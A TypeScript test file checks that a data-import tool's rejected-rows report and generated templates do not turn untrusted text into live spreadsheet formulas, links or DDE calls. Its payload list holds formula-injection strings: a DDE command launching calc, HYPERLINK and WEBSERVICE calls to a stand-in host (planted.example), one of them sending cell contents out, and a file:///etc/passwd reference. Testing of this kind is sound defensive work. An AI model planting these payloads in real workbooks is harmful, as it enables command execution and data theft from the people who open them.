import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { openSource } from '../../src/files/open.js';
import { type Cell, displayText } from '../../src/model/row.js';
import { writeTemplate } from '../../src/runs/template.js';
import { type Desk, openDesk } from '../support/desk.js';
import { importOf } from '../support/jobs.js';
import { writeWorkbook } from '../support/workbook.js';
import { partsOf } from './parts.js';

/** What a program would run, or fetch, if it stood in a workbook as more than text. */
const EVIL = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://planted.example/?"&A1,"go")',
  '=WEBSERVICE("http://planted.example/")',
  "='file:///etc/passwd'#$Sheet1.A1",
  '@SUM(1+1,2)',
  '+cmd()',
  '-cmd()',
  "'=1+1",
  '  =1+1',
  '\t=1',
  '<f>1+1</f>',
  '_x003D_1+1',
];
const JOB = importOf('supplier', 'name', { Name: 'name', About: 'general_description', EIN: 'ein' });

let desk: Desk;
beforeAll(async () => {
  desk = await openDesk();
});
afterAll(() => desk.close());

/** Everything of a workbook that a program calculates or fetches. */
async function activeParts(path: string): Promise<string[]> {
  const parts = await partsOf(path);
  const sheets = parts.filter(([name]) => name.startsWith('xl/worksheets/sheet')).map(([, xml]) => xml);
  const rules = sheets.flatMap((xml) => xml.match(/<(?:formula1|formula2|formula|xm:f)[ >][^<]*/g) ?? []);
  const names = parts.flatMap(([, xml]) => xml.match(/<definedName[^<]*/g) ?? []);
  const links = parts.flatMap(([name, xml]) =>
    name.endsWith('.rels') ? (xml.match(/[^>]*"External"[^>]*/g) ?? []) : [],
  );
  const hosts = parts.flatMap(([name]) => (/externalLink|ddeLink|connections|vbaProject/i.test(name) ? [name] : []));
  const wild = [...rules, ...names].filter((text) => /cmd|1\+1|planted|passwd/.test(text));
  return [...sheets.flatMap((xml) => xml.match(/<f[ >/][^<]*/g) ?? []), ...wild, ...links, ...hosts];
}

async function cellsOf(path: string, sheet?: string): Promise<{ headings: readonly string[]; rows: string[][] }> {
  const source = await openSource(path, { header_row: 1, ...(sheet !== undefined && { sheet }) });
  const rows: string[][] = [];
  for await (const batch of source.rows()) {
    for (const { cells } of batch) rows.push(cells.map((cell: Cell) => displayText(cell)));
  }
  return { headings: source.meta.headings, rows };
}

it('no cell of rejected.xlsx is a formula, and importing it reads every original text back (77)', async () => {
  const rows = EVIL.map((text, i) => ({ cells: [`R ${i}`, text, text] }));
  const given = join(desk.dir, 'given.xlsx');
  await writeWorkbook(given, { sheet: "=cmd|' '!A0", headings: ['Name', 'About', 'EIN'], rows });
  const run = await desk.import(given, JOB, { force: true });
  expect(run.summary.rows).toMatchObject({ invalid: EVIL.length, total: EVIL.length });
  const rejected = join(run.reportDir, 'rejected.xlsx');
  expect(await activeParts(rejected)).toEqual([]);
  const back = await cellsOf(rejected);
  expect(back.headings.slice(0, 3)).toEqual(['Name', 'About', 'EIN']);
  expect(back.rows.map((cells) => cells.slice(0, 3))).toEqual(rows.map(({ cells }) => cells));
  const again = await desk.import(rejected, JOB, { force: true });
  expect(again.faults.map((one) => [one['column'], one['value']])).toEqual(
    run.faults.map((one) => [one['column'], one['value']]),
  );
});

it('no name that the service has becomes a formula, a rule or a link in a blank workbook (77)', async () => {
  EVIL.forEach((text, i) => {
    desk.sandbox.putLookup('category', i + 1, { id: i + 1, category: `${text} ${i}`, subcategories: [text] });
  });
  desk.sandbox.insert(
    'supplier',
    EVIL.map((text, i) => ({ name: `${text.trim()} ${i}` })),
  );
  const cwd = join(desk.dir, 'template');
  await mkdir(cwd);
  const made = await writeTemplate(
    { resource: 'asset', file: 'new.xlsx', cwd },
    { settings: desk.settings(), signal: new AbortController().signal, notice: () => undefined },
  );
  const path = join(cwd, made.file);
  expect(await activeParts(path)).toEqual([]);
  const { headings, rows } = await cellsOf(path, 'Lists');
  // Some lists have no heading: their first name stands in the first row.
  const lists = new Set([...headings, ...rows.flat()]);
  // What reads as a workbook's own spelling of a character is not offered.
  const shown = EVIL.slice(0, -1).map((text, i) => `${text.trim()} ${i}`);
  expect(shown.filter((text) => !lists.has(text))).toEqual([]);
});
